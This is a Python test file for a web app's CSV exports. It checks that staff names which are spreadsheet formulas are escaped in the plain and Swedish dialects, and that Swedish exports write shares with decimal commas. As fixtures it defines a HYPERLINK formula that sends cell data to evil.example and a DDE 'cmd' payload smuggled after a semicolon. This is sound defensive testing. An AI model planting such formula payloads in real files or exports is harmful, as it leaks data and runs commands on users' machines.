"""The web's CSV exports over real HTTP: formulas neutralised, plain and Swedish dialects."""

from __future__ import annotations

from host import csvfile

from ..backoffice.builders import keypair
from ..csv_safety import cells, formulas, naive_formulas
from .conftest import Server

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
COMMAND = "Eva Ek;=cmd|' /C calc'!A0"


def test_a_staff_name_that_is_a_formula_reaches_no_cell_in_either_dialect(
    fresh_server: Server,
) -> None:
    demo = fresh_server.demo
    unit = demo.ids["unit_nord"]
    for key_id, name in ((901, HYPERLINK), (902, COMMAND)):
        staff = demo.office.add_staff(demo.admin, unit, name)[0]["id"]
        demo.office.add_key(demo.admin, staff, keypair()[1], key_id)
    with fresh_server.client("admin") as client:
        plain = client.get("/web/keys.csv")
        swedish = client.get("/web/keys.csv?dialect=sv")
        assert client.get("/web/keys.csv?dialect=xls").status_code == 400
        page = client.get("/web/keys").text
    assert 'href="/web/keys.csv?dialect=sv"' in page
    assert swedish.headers["content-disposition"].endswith('-sv.csv"')
    for response, delimiter in ((plain, ","), (swedish, ";")):
        assert response.status_code == 200
        content = response.content.decode("utf-8")
        assert content.startswith("\ufeff") == (delimiter == ";")
        assert formulas(content) == []
        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
        header, *rows = cells(content, delimiter)
        staff = {row[header.index("key_id")]: row[header.index("staff")] for row in rows}
        assert staff["901"] == "'" + HYPERLINK
        assert staff["902"] == "'Eva Ek;'=cmd|' /C calc'!A0"
        restored = {r["key_id"]: r["staff"] for r in csvfile.read_records(content)}
        assert (restored["901"], restored["902"]) == (HYPERLINK, COMMAND)


def test_the_swedish_dialect_writes_shares_with_a_decimal_comma(demo_server: Server) -> None:
    with demo_server.client("admin") as client:
        plain = client.get("/web/sample.csv?month=2026-03&seed=42").content.decode("utf-8")
        swedish = client.get("/web/sample.csv?month=2026-03&seed=42&dialect=sv")
    rows = cells(swedish.content.decode("utf-8"), ";")
    share = rows[0].index("share_lock_percent")
    shares = [row[share] for row in rows[1:] if row[share]]
    assert shares and all("," in s or s.isdigit() for s in shares)
    plain_rows = cells(plain, ",")
    assert [r[share] for r in plain_rows[1:] if r[share]] == [s.replace(",", ".") for s in shares]
